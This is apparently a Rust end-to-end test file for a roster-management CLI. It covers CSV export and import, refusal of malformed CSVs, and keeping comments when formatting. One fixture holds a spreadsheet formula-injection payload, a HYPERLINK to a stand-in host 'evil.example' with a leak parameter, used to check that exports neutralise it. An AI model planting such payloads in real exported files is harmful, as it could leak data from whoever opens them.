//! End to end: CSV in and out safely. `export` neutralises cells a
//! spreadsheet would run as formulas and its file reads back with
//! `import --csv` unchanged; `import --csv` refuses what it cannot read
//! faithfully, with the CSV line; comments inside arrays are kept by `fmt`,
//! CSV edits and imports from live sites.

use std::collections::BTreeMap;
use std::path::Path;

use crate::common::*;

const SITE: &str = r#"[sites.acme]
provider = "periscope"
site = "acme"
api_key = { env = "K" }
invited_by = "admin@acme.com"
"#;

/// People whose names a spreadsheet would run as formulas, and a group too.
const HOSTILE: &str = r#"# People with names a spreadsheet would run.
[[users]]
email = "ada@acme.com"
first_name = '=HYPERLINK("http://evil.example/?leak","open")'
last_name = "+1"
groups = [
  "Analysts", # until the audit (JIRA-42)
  "\tx",
]

[[users]]
email = "bob@acme.com"
first_name = "-x"
last_name = "@sum"   # really

[[users]]
email = "cy@acme.com"
first_name = "Cy"
last_name = "'t Hooft"

[[users]]
email = "dee@acme.com"
first_name = "'=already quoted"
last_name = "\rcarriage"

[[groups]]
name = "Analysts"
access = "sql"

[[groups]]
name = "\tx"
access = "view"
"#;

/// Every file under `dir/state`, by path: what `git diff` would compare.
fn snapshot(dir: &Path) -> BTreeMap<String, String> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<String, String>) {
        for e in std::fs::read_dir(dir).unwrap() {
            let path = e.unwrap().path();
            if path.is_dir() {
                walk(root, &path, out);
            } else {
                let name = path.strip_prefix(root).unwrap().display().to_string();
                out.insert(name, std::fs::read_to_string(&path).unwrap());
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(dir, &dir.join("state"), &mut out);
    out
}

#[test]
fn export_neutralises_formulas_and_reads_back_unchanged() {
    let sb = seeded_sandbox();
    // The seed's other people are not declared here: let the plan remove them.
    let site = format!("{SITE}allow_removals = 9\n");
    let dir = state_dir(&[("roster.toml", &site), ("people.toml", HOSTILE)]);
    let out = roster(dir.path(), &["export", "--format", "csv"], &[]);
    assert_eq!(out.code, 0, "{}", out.all());
    // The group `\tx` is quoted in its list, or its tab would be trimmed.
    assert_eq!(
        out.stdout,
        "site,email,first_name,last_name,groups,member_type,active\n\
         acme,ada@acme.com,\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"open\"\")\",'+1,\"Analysts;\"\"\tx\"\"\",,true\n\
         acme,bob@acme.com,'-x,'@sum,,,true\n\
         acme,cy@acme.com,Cy,'t Hooft,,,true\n\
         acme,dee@acme.com,''=already quoted,\"'\rcarriage\",,,true\n"
    );
    std::fs::write(dir.path().join("export.csv"), &out.stdout).unwrap();
    let before = snapshot(dir.path());
    let plan_before = roster(dir.path(), &["plan", "--sandbox-url", &sb.url], &[]);
    assert_eq!(plan_before.code, 0, "{}", plan_before.all());

    let back = roster(dir.path(), &["import", "--csv", "export.csv"], &[]);
    assert_eq!(back.code, 0, "{}", back.all());
    assert_eq!(
        back.stdout,
        "Updated 0 people from export.csv. Review with `git diff`, then `roster plan`.\n"
    );
    assert_eq!(snapshot(dir.path()), before, "the state is unchanged");
    let plan_after = roster(dir.path(), &["plan", "--sandbox-url", &sb.url], &[]);
    assert_eq!(
        plan_after.stdout, plan_before.stdout,
        "the plan is unchanged"
    );
    assert!(only_reads(&sb));
}

#[test]
fn an_edited_export_edits_the_state_keeping_comments() {
    let dir = state_dir(&[("roster.toml", SITE), ("people.toml", HOSTILE)]);
    let out = roster(dir.path(), &["export"], &[]);
    assert_eq!(out.code, 0, "{}", out.all());
    let edited = out
        .stdout
        .replace("'@sum,,", "Summers,Analysts,")
        .replace("\"Analysts;\"\"\tx\"\"\",", "Analysts;Finance,");
    std::fs::write(dir.path().join("export.csv"), edited).unwrap();
    // A new group, where `roster fmt` puts it (import writes canonical files).
    let tx = "[[groups]]\nname = \"\\tx\"";
    let people = dir.path().join("state/people.toml");
    let text = std::fs::read_to_string(&people).unwrap().replace(
        tx,
        &format!("[[groups]]\nname = \"Finance\"\naccess = \"view\"\n\n{tx}"),
    );
    std::fs::write(&people, &text).unwrap();

    let back = roster(dir.path(), &["import", "--csv", "export.csv"], &[]);
    assert_eq!(back.code, 0, "{}", back.all());
    assert_eq!(
        back.stdout,
        "edited state/people.toml\nUpdated 2 people from export.csv. Review with `git diff`, then `roster plan`.\n"
    );
    let after = std::fs::read_to_string(&people).unwrap();
    let expected = text
        .replace(
            "groups = [\n  \"Analysts\", # until the audit (JIRA-42)\n  \"\\tx\",\n]",
            "groups = [\n  \"Analysts\", # until the audit (JIRA-42)\n  \"Finance\",\n]",
        )
        .replace(
            "last_name = \"@sum\"   # really\n",
            "last_name = \"Summers\"   # really\ngroups = [\"Analysts\"]\n",
        );
    assert_eq!(after, expected);
}

/// CSVs roster cannot read faithfully: a name, the file, and the error
/// lines expected.
const UNFAITHFUL_CSVS: &[(&str, &str, &[&str])] = &[
    (
        "more cells than the header",
        "Email,First Name\nada@acme.com,Ada,Extra\n",
        &[
            "error: x.csv:2: 3 cells, but the header names 2 columns; put a value that holds a comma in double quotes",
        ],
    ),
    (
        "a column twice, in another case",
        "Email,First Name, email \nada@acme.com,Ada,ada@acme.com\n",
        &[
            "error: x.csv:1: column `email` (column 3) repeats column 1 `Email`; keep one of them",
            "error: x.csv:1: unknown column `email`; the columns are Email, First Name, Last Name, New Email, Member Type, isArchived (any order)",
        ],
    ),
    (
        "a newline in a quoted name",
        "Email,First Name\nada@acme.com,Ada\ngrace@acme.com,\"Grace\nHopper\"\n",
        &[
            "error: x.csv:3: First Name `Grace\\nHopper` holds a line break; a name or email is one line",
        ],
    ),
    (
        "a control character in a name",
        "Email,Last Name\nada@acme.com,Love\u{7}lace\n",
        &[
            "error: x.csv:2: Last Name `Love\\x07lace` holds a control or invisible character (U+0007); remove it",
        ],
    ),
    (
        "fewer cells than the header",
        "Email,First Name,Last Name\nada@acme.com,Ada\n",
        &[
            "error: x.csv:2: 2 cells, but the header names 3 columns; give every row a cell per column (an empty one leaves a value alone), and close every double quote",
        ],
    ),
    (
        "a quote left open at the end of the file",
        "Email,First Name,Last Name\nada@acme.com,\"Ada\n",
        &[
            "error: x.csv:2: 2 cells, but the header names 3 columns; give every row a cell per column (an empty one leaves a value alone), and close every double quote",
        ],
    ),
    (
        "a bidi override in a name",
        "Email,First Name\nada@acme.com,Ada\u{202e}X\n",
        &[
            "error: x.csv:2: First Name `Ada\\u{202e}X` holds a control or invisible character (U+202E); remove it",
        ],
    ),
    (
        "a control character in an email",
        "Email,Last Name\nada\u{1b}@acme.com,Lovelace\n",
        &[
            "error: x.csv:2: Email `ada\\x1b@acme.com` holds a control or invisible character (U+001B); remove it",
        ],
    ),
    (
        "semicolons",
        "Email;First Name\nada@acme.com;Ada\n",
        &[
            "error: x.csv:1: the header has `;`: roster reads comma-separated files; save it as CSV with commas",
        ],
    ),
    (
        "tabs",
        "Email\tFirst Name\nada@acme.com\tAda\n",
        &[
            "error: x.csv:1: the header has a tab: roster reads comma-separated files; save it as CSV with commas",
        ],
    ),
    (
        "an empty file",
        "",
        &[
            "error: x.csv:1: the file is empty; its first line must name the columns (a header row), then one row per person",
        ],
    ),
    (
        "every problem at once",
        "Email,First Name,EMAIL\nada@acme.com,Ada,x,y\ngrace@acme.com,\"G\rH\",\n",
        &[
            "error: x.csv:1: column `EMAIL` (column 3) repeats column 1 `Email`; keep one of them",
            "error: x.csv:2: 4 cells, but the header names 3 columns; put a value that holds a comma in double quotes",
            "error: x.csv:1: unknown column `EMAIL`; the columns are Email, First Name, Last Name, New Email, Member Type, isArchived (any order)",
            "error: x.csv:3: First Name `G\\rH` holds a line break; a name or email is one line",
        ],
    ),
    (
        "an export with a row twice",
        "site,email,first_name\nacme,ada@acme.com,Ada\nacme,ADA@acme.com,Ada\n",
        &[
            "error: x.csv:3: `ADA@acme.com` on `acme` also appears on line 2; keep one row per person and site",
        ],
    ),
];

#[test]
fn csvs_roster_cannot_read_faithfully_are_refused_with_their_lines() {
    let state = "[[users]]\nemail = \"ada@acme.com\"\nfirst_name = \"Ada\"\nlast_name = \"Lovelace\"\n\n[[users]]\nemail = \"grace@acme.com\"\nfirst_name = \"Grace\"\nlast_name = \"Hopper\"\n";
    for (name, csv, expected) in UNFAITHFUL_CSVS {
        let dir = state_dir(&[("roster.toml", SITE), ("people.toml", state)]);
        std::fs::write(dir.path().join("x.csv"), csv).unwrap();
        let before = snapshot(dir.path());
        let out = roster(dir.path(), &["import", "--csv", "x.csv"], &[]);
        assert_eq!(out.code, 1, "{name}: {}", out.all());
        let n = expected.len();
        let mut want: Vec<String> = expected
            .iter()
            .map(std::string::ToString::to_string)
            .collect();
        want.push(format!(
            "error: {n} problem{} in x.csv; nothing was written",
            if n == 1 { "" } else { "s" }
        ));
        assert_eq!(
            out.stderr.lines().collect::<Vec<_>>(),
            want,
            "{name}: {}",
            out.stderr
        );
        assert_eq!(out.stdout, "", "{name}");
        assert_eq!(snapshot(dir.path()), before, "{name}: the state changed");
    }
}

const ARRAY_COMMENTS: &str = r#"[[users]]
email = "ada@acme.com"
first_name = "Ada"
last_name = "Lovelace"
groups = [ "Finance", # until the audit (JIRA-42)
  # the analysts' lead
  "Analysts" ]   # reviewed in May
"#;

#[test]
fn fmt_keeps_comments_inside_arrays() {
    let dir = state_dir(&[("roster.toml", SITE), ("people.toml", ARRAY_COMMENTS)]);
    let out = roster(dir.path(), &["fmt"], &[]);
    assert_eq!(out.code, 0, "{}", out.all());
    assert_eq!(
        std::fs::read_to_string(dir.path().join("state/people.toml")).unwrap(),
        r#"[[users]]
email = "ada@acme.com"
first_name = "Ada"
last_name = "Lovelace"
groups = [
  # the analysts' lead
  "Analysts",
  "Finance", # until the audit (JIRA-42)
]   # reviewed in May
"#
    );
    let check = roster(dir.path(), &["fmt", "--check"], &[]);
    assert_eq!(
        check.code,
        0,
        "the canonical form is stable: {}",
        check.all()
    );
}

#[test]
fn import_from_a_live_site_keeps_comments_inside_arrays() {
    let sb = seeded_sandbox();
    let people = "[[users]]\nemail = \"ada@acme.com\"\nfirst_name = \"Ada\"\nlast_name = \"Lovelace\"\ngroups = [\n  \"Administrators\", # since 2019 (JIRA-7)\n  # kept as long as the audit runs\n]\n";
    let dir = state_dir(&[("roster.toml", SITE), ("people.toml", people)]);
    let out = roster(dir.path(), &["import", "--sandbox-url", &sb.url], &[]);
    assert_eq!(out.code, 0, "{}", out.all());
    assert_eq!(
        std::fs::read_to_string(dir.path().join("state/people.toml")).unwrap(),
        "[[users]]\nemail = \"ada@acme.com\"\nfirst_name = \"Ada\"\nlast_name = \"Lovelace\"\ngroups = [\n  \"Administrators\", # since 2019 (JIRA-7)\n  \"Analysts\",\n  # kept as long as the audit runs\n]\n"
    );
    let plan = roster(
        dir.path(),
        &["plan", "--detailed-exitcode", "--sandbox-url", &sb.url],
        &[],
    );
    assert_eq!(plan.code, 0, "{}", plan.all());
    assert!(writes(&sb).is_empty());
}

pub(crate) const TWO_SITES: &str = r#"[sites.acme]
provider = "periscope"
site = "acme"
api_key = { env = "K" }
invited_by = "admin@acme.com"

[sites.acme-sigma]
provider = "sigma"
cloud = "aws-us-west"
client_id = { env = "I" }
client_secret = { env = "S" }
"#;

pub(crate) const ON_BOTH: &str = r#"[[users]]
email = "ada@acme.com"
first_name = "Ada"
last_name = "Lovelace"
groups = ["Analysts"]
member_type = "Creator"

[users.overrides.acme-sigma]
groups = ["Finance"]   # the Sigma team differs

[[users]]
email = "grace@acme.com"
first_name = "Grace"
last_name = "Hopper"
groups = ["Analysts"]
sites = ["acme"]

[[groups]]
name = "Analysts"
access = "sql"

[[groups]]
name = "Finance"
access = "view"
"#;

#[test]
fn an_export_of_several_sites_reads_back_and_edits_land_where_they_apply() {
    let dir = state_dir(&[("roster.toml", TWO_SITES), ("people.toml", ON_BOTH)]);
    let out = roster(dir.path(), &["export"], &[]);
    assert_eq!(out.code, 0, "{}", out.all());
    assert_eq!(
        out.stdout,
        "site,email,first_name,last_name,groups,member_type,active\n\
         acme,ada@acme.com,Ada,Lovelace,Analysts,Creator,true\n\
         acme,grace@acme.com,Grace,Hopper,Analysts,,true\n\
         acme-sigma,ada@acme.com,Ada,Lovelace,Finance,Creator,true\n"
    );
    std::fs::write(dir.path().join("same.csv"), &out.stdout).unwrap();
    let before = snapshot(dir.path());
    let back = roster(dir.path(), &["import", "--csv", "same.csv"], &[]);
    assert_eq!(back.code, 0, "{}", back.all());
    assert_eq!(snapshot(dir.path()), before, "read back unchanged");

    // A new last name on every row of a person is theirs; a group changed
    // on one site goes to that site's override; a member type changed on
    // one of two sites becomes an override for it.
    let edited = "site,email,last_name,groups,member_type\n\
         acme,ada@acme.com,King,Analysts,Creator\n\
         acme-sigma,ada@acme.com,King,Finance;Analysts,Viewer\n\
         acme,grace@acme.com,Hopper,Analysts;Finance,\n";
    std::fs::write(dir.path().join("edit.csv"), edited).unwrap();
    let out = roster(dir.path(), &["import", "--csv", "edit.csv"], &[]);
    assert_eq!(out.code, 0, "{}", out.all());
    assert_eq!(
        out.stdout,
        "edited state/people.toml\nUpdated 2 people from edit.csv. Review with `git diff`, then `roster plan`.\n"
    );
    let text = std::fs::read_to_string(dir.path().join("state/people.toml")).unwrap();
    assert!(
        text.starts_with(
            "[[users]]\nemail = \"ada@acme.com\"\nfirst_name = \"Ada\"\nlast_name = \"King\"\ngroups = [\"Analysts\"]\nmember_type = \"Creator\"\n\n[users.overrides.acme-sigma]\ngroups = [\"Analysts\", \"Finance\"]   # the Sigma team differs\nmember_type = \"Viewer\"\n\n[[users]]\nemail = \"grace@acme.com\"\nfirst_name = \"Grace\"\nlast_name = \"Hopper\"\ngroups = [\"Analysts\", \"Finance\"]\nsites = [\"acme\"]\n"
        ),
        "{text}"
    );
}
